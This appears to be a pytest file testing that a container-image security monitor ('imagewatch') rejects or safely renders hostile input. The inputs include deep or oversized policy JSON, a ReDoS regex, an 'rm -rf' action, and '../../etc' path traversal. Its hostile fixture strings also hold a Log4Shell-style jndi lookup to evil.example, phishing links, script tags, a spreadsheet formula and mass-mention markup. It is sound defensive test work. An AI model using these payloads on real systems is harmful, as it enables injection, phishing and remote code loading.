"""Hostile and malformed inputs: policies, events, channel files, inventory text. Each gets a clear
error naming where the problem is, or a safe rendering — never a crash of the run, never a secret.
"""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from imagewatch.alerts.routing import ChannelsFileError
from imagewatch.emulator import Emulator, Fleet
from imagewatch.events import EventError
from imagewatch.settings import SettingsError
from imagewatch.standins.webhook_sink import WebhookSink
from support import reports
from support.fault_harness import FakeTime, Harness, fingerprint, leaks, route_to_sinks, strings
from support.known_fleet import EXPECTED, FIXTURE_PACK, ROOT

from .conftest import PLANTED, WEBHOOK_TOKEN

BROKEN = ROOT / "tests" / "fixtures" / "policies_broken"


# -- policies ---------------------------------------------------------------------------------------


def hostile_policies(folder: Path) -> dict[str, str]:
    """Write broken policy files next to the good ones; return {file name: what its error must say}."""
    expected: dict[str, str] = {}

    def write(name: str, content: str | bytes, says: str) -> None:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        expected[name] = says

    base = {"title": "T", "severity": "high", "message": "m"}
    write(
        "huge.json",
        json.dumps(
            {
                **base,
                "id": "huge",
                "description": "x" * 1_500_000,
                "where": {"field": "vul_num", "op": "gt", "value": 0},
            }
        ),
        "expected at most 1000000 per policy file",
    )
    write("deep-json.json", "[" * 100_000 + "]" * 100_000, "malformed JSON: nested too deeply")
    deep: dict = {"field": "vul_num", "op": "gt", "value": 0}
    for _ in range(40):
        deep = {"all": [deep]}
    write("deep-conditions.json", json.dumps({**base, "id": "deep", "where": deep}), "nested more than 64")
    leaves = [{"field": "vul_num", "op": "gt", "value": n} for n in range(500)]
    write(
        "many-leaves.json",
        json.dumps({**base, "id": "leaves", "where": {"any": leaves}}),
        "more than 200 conditions in one policy",
    )
    write("not-utf8.json", b'{"id": "\xff\xfe"}', "not UTF-8 text")
    write("empty.json", "", "malformed JSON")
    write(
        "nan.json",
        '{"id": "nan", "title": "T", "severity": "high", "message": "m",'
        ' "where": {"field": "vul_num", "op": "gt", "value": NaN}}',
        "NaN is not valid JSON",
    )
    write(
        "wrong-types.json",
        json.dumps({"id": 5, "title": ["t"], "severity": 3, "where": "x", "message": None}),
        "/id",
    )
    write(
        "redos.json",
        json.dumps(
            {**base, "id": "redos", "where": {"field": "image_name", "op": "regex", "value": "^(a+)+\\1$"}}
        ),
        "a backreference \\1 is not supported",  # RE2 runs (a+)+ in linear time; a backreference it refuses
    )
    write(
        "long-regex.json",
        json.dumps(
            {**base, "id": "long-regex", "where": {"field": "image_name", "op": "regex", "value": "a" * 300}}
        ),
        "expected at most 256",
    )
    write(
        "huge-in.json",
        json.dumps(
            {
                **base,
                "id": "huge-in",
                "where": {"field": "image_name", "op": "in", "value": [str(n) for n in range(5000)]},
            }
        ),
        "a list of 1..1000 values",
    )
    write(
        "markup.json",
        json.dumps(
            {
                **base,
                "id": "markup",
                "severity": "<!channel> @everyone",
                "where": {"field": "vul_num", "op": "gt", "value": 0},
            }
        ),
        "/severity",
    )
    write(
        "zz-duplicate.json",
        (FIXTURE_PACK / "malicious-files.json").read_text(),
        'policy id "malicious-files" is already defined in',
    )
    for source in sorted(BROKEN.glob("*.json")):
        if not source.name.startswith("duplicate_id"):  # a pair: the first of it is a valid policy
            shutil.copy(source, folder / source.name)
            expected[source.name] = "/"  # each is broken in exactly one way (its README)
    return expected


def test_broken_and_hostile_policies_are_each_skipped_and_announced_and_the_others_run(
    harness: Harness, sink: WebhookSink, policy_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = hostile_policies(policy_dir)
    with WebhookSink("slack", clock=harness.fake.wall) as slack:
        monkeypatch.delenv("WEBHOOK_URL")
        channels = [
            {"name": "raw", "url": "${RAW_URL}", "secret": "${RAW_SECRET}"},
            {"name": "slack", "url": "${SLACK_URL}", "platform": "slack"},
        ]
        monkeypatch.setenv("CHANNELS_JSON", json.dumps({"channels": channels}))
        monkeypatch.setenv("RAW_URL", sink.url)
        monkeypatch.setenv("RAW_SECRET", PLANTED["WEBHOOK_SECRET"])
        monkeypatch.setenv("SLACK_URL", slack.url)
        started = time.monotonic()
        summary = harness.invoke().summary
        elapsed = time.monotonic() - started
        slack_text = "\n".join(strings(slack.received[0].json()))
    assert elapsed < 10  # no pattern was allowed to backtrack for long
    assert summary["status"] == "ok" and summary["errors"] == []
    assert sorted(summary["policies"]["evaluated"]) == ["high-severity", "malicious-files", "scan-freshness"]
    invalid = summary["policies"]["invalid"]
    for name, says in broken.items():
        mine = [error for error in invalid if f"{policy_dir / name}" in error]
        assert mine and any(says in error for error in mine), (name, mine)
    announced = [
        a for a in sink.received[0].json()["alerts"] if a["policy_id"] == "imagewatch.invalid-policy"
    ]
    assert {a["label"] for a in announced} == {str(policy_dir / name) for name in broken}
    assert all(a["kind"] == "new" and a["severity"] == "high" for a in announced)
    found = {(a["policy_id"], a["fingerprint"]) for a in sink.received[0].json()["alerts"]}
    assert {(p, fingerprint(p, s)) for p, s in EXPECTED} <= found  # the good policies still ran
    assert summary["violations"]["total"] == len(EXPECTED) + len(broken)
    assert "<!channel>" not in slack_text and "&lt;!channel&gt;" in slack_text  # echoed, defused


# -- events -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "says"),
    [
        (None, "event: got NoneType, expected a JSON object"),
        ([], "event: got list, expected a JSON object"),
        ("schedule", "event: got str, expected a JSON object"),
        ({}, '/source: missing required property "source", expected one of aws.events, manual, schedule'),
        ({"source": "nope"}, '/source: got "nope", expected one of'),
        ({"source": 7}, "/source: got 7, expected one of"),
        ({"source": "schedule"}, '/: missing required property "scheduled_time"'),
        (
            {"source": "schedule", "scheduled_time": "soon"},
            '/scheduled_time: got "soon", expected an ISO timestamp',
        ),
        (
            {"source": "schedule", "scheduled_time": 1767225600},
            "/scheduled_time: got 1767225600, expected a string",
        ),
        (
            {"source": "schedule", "scheduled_time": "2026-01-01T00:00:00Z", "extra": 1},
            '/extra: unexpected property "extra"; expected one of action, dry_run, scheduled_time, source,'
            " target",
        ),
        ({"source": "manual", "action": "resend"}, "/channel: required by action 'resend'"),
        ({"source": "manual", "action": "check", "channel": "ops"}, "/channel: not used by action 'check'"),
        (
            {"source": "manual", "action": "check", "dry_run": "yes"},
            '/dry_run: got "yes", expected a boolean',
        ),
        (
            {"source": "manual", "action": "check", "policies": []},
            "/policies: got [], expected a list of at least 1 item(s)",
        ),
        (
            {"source": "manual", "action": "check", "policies": [1, 2]},
            "/policies/0: got 1, expected a string",
        ),
        ({"source": "manual", "action": "rm -rf"}, '/action: got "rm -rf", expected one of'),
        (
            {"source": "schedule", "scheduled_time": "2026-01-01T00:00:00Z", "target": {"name": "../../etc"}},
            '/target/name: got "../../etc", expected a name of',
        ),
        ({"source": "schedule", "scheduled_time": "A" * 100_000}, '/scheduled_time: got "AAAA'),
    ],
)
def test_a_malformed_event_is_refused_before_anything_is_contacted(
    harness: Harness, hss: Emulator, sink: WebhookSink, event: object, says: str
) -> None:
    from imagewatch.handler import lambda_handler
    from imagewatch.local_context import LocalContext

    with pytest.raises(EventError) as refused:
        lambda_handler(event, LocalContext())  # type: ignore[arg-type]
    assert says in str(refused.value)
    assert hss.stats.requests == 0 and sink.attempts == 0


# -- channel files ----------------------------------------------------------------------------------

LEAKY_URL = "http://hooks.example.com/services/T0/B0/leaky-planted-token"  # not https: refused


@pytest.mark.parametrize(
    ("document", "says"),
    [
        ("{channels: [", "not JSON"),
        ("[]", "/: got [], expected an object"),
        ('{"channels": []}', "/channels: got [], expected a list of at least 1 item(s)"),
        ('{"channels": [{"name": "x"}]}', '/channels/0: missing required property "url"'),
        (
            '{"channels": [{"name": "Bad Name", "url": "${OK_URL}"}]}',
            '/channels/0/name: got "Bad Name", expected a name of',
        ),
        (
            '{"channels": [{"name": "x", "url": "${OK_URL}", "colour": "red"}]}',
            '/channels/0/colour: unexpected property "colour"; expected one of',
        ),
        (
            '{"channels": [{"name": "x", "url": "${OK_URL}", "min_severity": "urgent"}]}',
            '/channels/0/min_severity: got "urgent", expected one of critical,',
        ),
        (
            '{"channels": [{"name": "x", "url": "${OK_URL}", "repeat_interval": "soon"}]}',
            "/channels/0/repeat_interval",
        ),
        (
            '{"channels": [{"name": "x", "url": "${NOT_SET_ANYWHERE}"}]}',
            "/channels/0/url: ${NOT_SET_ANYWHERE} is not set",
        ),
        (
            '{"channels": [{"name": "x", "url": "${LEAKY_URL}"}]}',
            "/channels/0/url: expected an https:// URL (http:// only for 127.0.0.1/localhost)",
        ),
        (
            '{"channels": [{"name": "x", "url": "ftp://127.0.0.1/x"}]}',
            "/channels/0/url: expected an https:// URL",
        ),
        (
            '{"channels": [{"name": "x", "url": "${OK_URL}"}, {"name": "x", "url": "${OK_URL}"}]}',
            "/channels/1/name: 'x' is used by another channel",
        ),
        ('{"channels": [{"name": "x", "url": "${OK_URL}", "platform": "myspace"}]}', "/channels/0/platform"),
        (
            '{"channels": [{"name": "x", "url": "${OK_URL}", "secret": "${NOT_SET_EITHER}"}]}',
            "/channels/0/secret: ${NOT_SET_EITHER} is not set",
        ),
    ],
)
@pytest.mark.parametrize("how", ["CHANNELS_FILE", "CHANNELS_JSON"])
def test_a_malformed_channels_document_stops_the_run_with_its_pointer_and_no_secret(
    harness: Harness,
    hss: Emulator,
    sink: WebhookSink,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    document: str,
    says: str,
    how: str,
) -> None:
    monkeypatch.setenv("OK_URL", sink.url)
    monkeypatch.setenv("LEAKY_URL", LEAKY_URL)
    if how == "CHANNELS_FILE":
        (tmp_path / "channels.json").write_text(document)
        monkeypatch.setenv("CHANNELS_FILE", str(tmp_path / "channels.json"))
    else:
        monkeypatch.setenv("CHANNELS_JSON", document)
    failed = harness.invoke()
    assert isinstance(failed.error, ChannelsFileError) and says in str(failed.error), str(failed.error)
    assert leaks(str(failed.error), [LEAKY_URL, "leaky-planted-token", sink.url, WEBHOOK_TOKEN]) == []
    assert hss.stats.requests == 0 and sink.attempts == 0


def test_a_missing_channels_file_names_the_file(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHANNELS_FILE", "/nonexistent/channels.json")
    failed = harness.invoke()
    assert str(failed.error) == "/nonexistent/channels.json: cannot read it (No such file or directory)"


def test_a_plain_http_webhook_url_is_refused_without_showing_it(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WEBHOOK_URL", LEAKY_URL)
    failed = harness.invoke()
    assert isinstance(failed.error, SettingsError)
    assert str(failed.error) == (
        "WEBHOOK_URL: got (set, hidden), expected an https:// URL (http:// only for 127.0.0.1/localhost)"
    )


# -- hostile inventory text -------------------------------------------------------------------------

HOSTILE = [
    "<!channel> <!here|here> <@U0123ABC> @everyone @here @all <at id=all></at> <users/all> <@&123>",
    "[click me](http://evil.example/phish) <http://evil.example|Click here> ![x](http://evil.example/x.png)",
    "*bold* _it_ ~strike~ `code` # heading > quote | a | b |",
    "ctrl\x00\x07\x1b[31mred\x1b[0m\r\nnext\u202egnp.exe\u2066x\u2069\u200b",
    "A" * 10_000,
    '=HYPERLINK("http://evil.example","x")',
    "<script>alert(1)</script> &amp; &lt; {{7*7}} ${jndi:ldap://evil.example/a}",
    "喂👋" * 3000,
]
PLATFORMS = ("generic", "slack", "teams", "feishu", "dingtalk", "wecom", "discord", "googlechat")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
MENTION = re.compile(r"@(?!\u2060)[\w.+-]")  # an @ that starts a name, not defused by a word joiner
AT_MENTIONS = ("teams", "feishu", "dingtalk", "wecom", "discord")  # where a bare @name can ping someone
MARKDOWN_LINKS = AT_MENTIONS  # where [text](url) would be a link (Slack and Google Chat do not read it)


@pytest.fixture
def hostile_fleet(fleet: Fleet, run_clock) -> list[str]:
    now_ms = int(run_clock.now * 1000)
    records = [
        {
            "image_id": f"hostile{n}",
            "host_id": f"hh{n}",
            "image_name": name,
            "image_version": name[:300],
            "host_name": name,
            "scan_status": "success",
            "severity_level": "Low",
            "vul_num": 1,
            "malicious_file_num": 1,
            "latest_scan_time": now_ms - 3_600_000,
        }
        for n, name in enumerate(HOSTILE)
    ]
    return fleet.insert(records)


@pytest.fixture
def every_platform(
    harness: Harness, fake_time: FakeTime, monkeypatch: pytest.MonkeyPatch
) -> Iterator[dict[str, WebhookSink]]:
    sinks = {}
    try:
        for platform in PLATFORMS:
            secret = PLANTED["WEBHOOK_SECRET"] if platform in ("generic", "feishu", "dingtalk") else None
            sinks[platform] = WebhookSink(platform, secret=secret, clock=fake_time.wall).start()
        route_to_sinks(monkeypatch, harness, sinks)
        yield sinks
    finally:
        for sink in sinks.values():
            sink.stop()


def test_hostile_inventory_text_is_rendered_safely_on_every_platform(
    harness: Harness, hostile_fleet: list[str], every_platform: dict[str, WebhookSink]
) -> None:
    summary = harness.invoke().summary
    assert summary["status"] == "ok" and summary["notifications"]["failed"] == 0
    for platform, sink in every_platform.items():
        assert len(sink.received) == 1 and sink.rejections == [], platform  # within every limit
        payload = sink.received[0].json()
        texts = list(strings(payload))
        joined = "\n".join(texts)
        assert not CONTROL.search(joined), (platform, CONTROL.search(joined))
        if platform == "generic":  # raw text for the receiver to escape, clipped (docs/webhooks.md)
            assert max(len(text) for text in texts) <= 2000
            continue
        assert "A" * 1000 not in joined and "喂👋" * 1000 not in joined  # 10 KB names are clipped
        if platform in AT_MENTIONS:
            assert not MENTION.search(joined), (platform, MENTION.search(joined))
        for formed in (
            "<!channel>",
            "<!here",
            "<@U0123ABC>",
            "<at id=all>",
            "<users/all>",
            "<@&123>",
            "<http://evil.example|",
            "<script>",
        ):
            assert not re.search(r"(?<!\\)" + re.escape(formed), joined), (platform, formed)  # \< is inert
        if platform in MARKDOWN_LINKS:
            assert not re.search(r"(?<!\\)\]\(http://evil", joined), platform
    assert every_platform["discord"].received[0].json()["allowed_mentions"] == {"parse": []}


def test_hostile_inventory_text_cannot_inject_formulas_into_the_csv_report(
    harness: Harness, hostile_fleet: list[str]
) -> None:
    summary = harness.invoke().summary
    csv_text = reports.text(summary["report"]["csv"])
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text
